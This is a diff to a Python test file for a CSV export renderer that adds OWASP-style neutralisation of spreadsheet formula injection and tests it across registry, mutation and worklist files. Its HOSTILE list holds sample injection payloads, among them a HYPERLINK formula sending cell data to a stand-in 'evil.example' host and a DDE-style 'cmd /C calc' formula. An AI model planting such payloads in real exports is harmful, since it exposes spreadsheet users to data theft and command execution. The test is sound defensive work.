@@ -1,6 +1,9 @@
 """The outbox's CSV renderer (``connectors.outbox.render_csv``): byte for byte what
 ``DataFrame.to_csv(sep="|", index=False, lineterminator="\\n", na_rep="")`` writes, for the
-columns it renders itself (text, integers, booleans) and for those it leaves to pandas.
+columns it renders itself (text, integers, booleans) and for those it leaves to pandas,
+once text cells that a spreadsheet would run as a formula are neutralised (issue 15,
+point 5: OWASP's rule, a ``'`` before a text cell that starts with ``=``, ``+``, ``-``,
+``@``, TAB or CR; numbers are never touched).
 
 Hypothesis runs derandomized and without its example database (nothing is written into the
 working tree).
@@ -9,6 +12,7 @@ working tree).
 from __future__ import annotations
 
 import io
+from pathlib import Path
 
 import numpy as np
 import pandas as pd
@@ -20,12 +24,33 @@ from connectors import outbox as ob
 
 AWKWARD = ["", " ", "a", "|", "||", '"', 'q"q', "\n", "l\nm", "\r", "c\rr", "\r\n", "\t",
            "\\", "\\N", "é", "ÑOÑO\nBARIS", "SITI | AMINAH", 'AGUS "GUS" W.', "\x00", "NaN",
-           "None", "1e5", "-", "#", "'", "a,b", "\ufeff"]  # fmt: skip
+           "None", "1e5", "-", "#", "'", "a,b", "\ufeff", '=HYPERLINK("http://x","y")',
+           "@SUM(1+1)", "-2+3+cmd", "+62 21", "\tTAB", "\r=x", " =x", "a=b", "=a|b"]  # fmt: skip
+
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralised(frame: pd.DataFrame) -> pd.DataFrame:
+    """The oracle of the formula rule, cell by cell in Python: a ``'`` before every text
+    cell (a ``str`` in a text, object or category column) that starts like a formula."""
+
+    def cell(v):
+        return "'" + v if isinstance(v, str) and v.startswith(FORMULA_START) else v
+
+    out = frame.copy()
+    for i in range(out.shape[1]):
+        column = out.iloc[:, i]
+        if isinstance(column.dtype, pd.CategoricalDtype):
+            out.isetitem(i, column.cat.rename_categories([cell(c) for c in column.cat.categories]))
+        elif isinstance(column.dtype, pd.StringDtype) or column.dtype == object:
+            out.isetitem(i, pd.Series([cell(v) for v in column], index=column.index, dtype=column.dtype))
+    return out
 
 
 def pandas_csv(frame: pd.DataFrame) -> bytes:
     buffer = io.StringIO()
-    frame.to_csv(buffer, sep="|", index=False, lineterminator="\n", na_rep="")
+    neutralised(frame).to_csv(buffer, sep="|", index=False, lineterminator="\n", na_rep="")
     return buffer.getvalue().encode("utf-8")
 
 
@@ -92,7 +117,7 @@ def test_fields_with_separator_quote_or_line_feed_are_quoted():
 text_values = st.one_of(
     st.none(),
     st.sampled_from(AWKWARD),
-    st.text(alphabet=st.sampled_from(list('ab |"\n\r\t\\é,;')), max_size=6),
+    st.text(alphabet=st.sampled_from(list('ab |"\n\r\t\\é,;=+-@')), max_size=6),
 )
 
 
@@ -136,3 +161,83 @@ def test_write_csv_stages_the_rendered_bytes_with_their_checksum(tmp_path):
     data = (tmp_path / "registry_202610_v1.csv").read_bytes()
     assert data == pandas_csv(frame)
     assert ob.Outbox(tmp_path).verify("registry_202610_v1.csv") == hashlib.sha256(data).hexdigest()
+
+
+def test_text_cells_that_start_like_a_formula_are_neutralised_and_numbers_are_not():
+    frame = pd.DataFrame(
+        {
+            "nama": pd.Series(['=HYPERLINK("http://x","y")', "@SUM(1)", "-2+3+cmd", "+1", "\tx",
+                               "\rx", " =x", "a=b", None, "=a|b"], dtype="str"),
+            "n": np.array([-5, -1, 0, 1, 2, 3, 4, 5, 6, 7], dtype=np.int64),
+            "m": pd.array([-5, None, 0, 1, 2, 3, 4, 5, 6, 7], dtype="Int64"),
+        }
+    )  # fmt: skip
+    lines = ob.render_csv(frame).decode().split("\n")
+    assert lines[1:] == [
+        '"\'=HYPERLINK(""http://x"",""y"")"|-5|-5', "'@SUM(1)|-1|", "'-2+3+cmd|0|0", "'+1|1|1",
+        "'\tx|2|2", "'\rx|3|3", " =x|4|4", "a=b|5|5", "|6|6", '"\'=a|b"|7|7', "",
+    ]  # fmt: skip
+
+
+def test_the_pandas_path_neutralises_text_cells_too():
+    frame = pd.DataFrame({"f": [1.5, -2.0], "s": ["=1+1", "-x"], "o": [-3, "@y"],
+                          "c": pd.Categorical(["+z", "ok"])})  # fmt: skip
+    assert ob.render_csv(frame).decode().split("\n")[1:] == [
+        "1.5|'=1+1|-3|'+z", "-2.0|'-x|'@y|ok", "",
+    ]  # fmt: skip
+
+
+#: (a CR inside a value is not among them: validation rejects or blanks control characters,
+#: so none reaches the outbox; a CR would end the line for some readers, the pandas CSV
+#: writer this renderer reproduces does not quote it)
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd",
+           "+62 812", "\tTAB", "\rCR"]  # fmt: skip
+
+
+def _cells(path) -> list[str]:
+    import csv
+
+    with open(path, newline="", encoding="utf-8") as fh:
+        return [cell for row in csv.reader(fh, delimiter="|") for cell in row]
+
+
+def test_every_outbox_csv_kind_is_neutralised(tmp_path):
+    """The registry, the BPJS mutations and the kelurahan worklists, built as the flows
+    build them, with names and addresses that are formulas: no cell of any file starts
+    like a formula, and the names are there, guarded."""
+    from domain.worklist import worklists
+    from domain.release_files import mutasi_rows, registry_rows
+    from tests.integration.db.conftest import sample_entries
+
+    entries = sample_entries()
+    entries["nama"] = HOSTILE
+    entries["evidence"] = ["-" + e for e in entries["evidence"]]
+    entries["alamat"] = pd.Series(["=1+1", "@x", "-y", "+z", "\tw", None], dtype="str")
+    cases = pd.DataFrame(
+        {
+            "case_id": [f"RV-202610-{i}" for i in range(len(entries))],
+            "nik": entries["nik"], "kpj": entries["kpj"],
+            "kode_kelurahan": entries["kode_kelurahan"], "triggers": "NAME_CHANGED",
+            "evidence": "=cmd", "status": "OPEN",
+        }
+    )  # fmt: skip
+    with ob.Outbox(tmp_path).staging("t") as staged:
+        files = [
+            staged.write_csv("registry_202610_v1.csv", registry_rows(entries, 7)),
+            staged.write_csv("mutasi_bpjstk_202610_v1.csv", mutasi_rows(entries, "2026-10")),
+        ]
+        for kel, frame in worklists(cases, entries, "2026-10", 1).items():
+            files.append(staged.write_csv(f"verifikasi/{kel}/worklist_202610_v1.csv", frame))
+        kinds = {Path(f).name.split("_")[0] for f in files}
+        assert kinds == {"registry", "mutasi", "worklist"}
+        for path in files:
+            cells = _cells(path)
+            assert not [c for c in cells if c.startswith(FORMULA_START)], path
+        registry = _cells(files[0])
+        assert all("'" + name in registry for name in HOSTILE[:-1])
+        assert b"'\rCR" in Path(files[0]).read_bytes()
+        assert "-18" not in registry  # (integers are never guarded: none is negative here)
+        worklist_cells = [c for f in files[2:] for c in _cells(f)]
+        assert any(c.startswith("'=1+1") for c in worklist_cells)  # the address
+        assert "'-2+3+cmd" in worklist_cells  # a name
+        staged.discard()
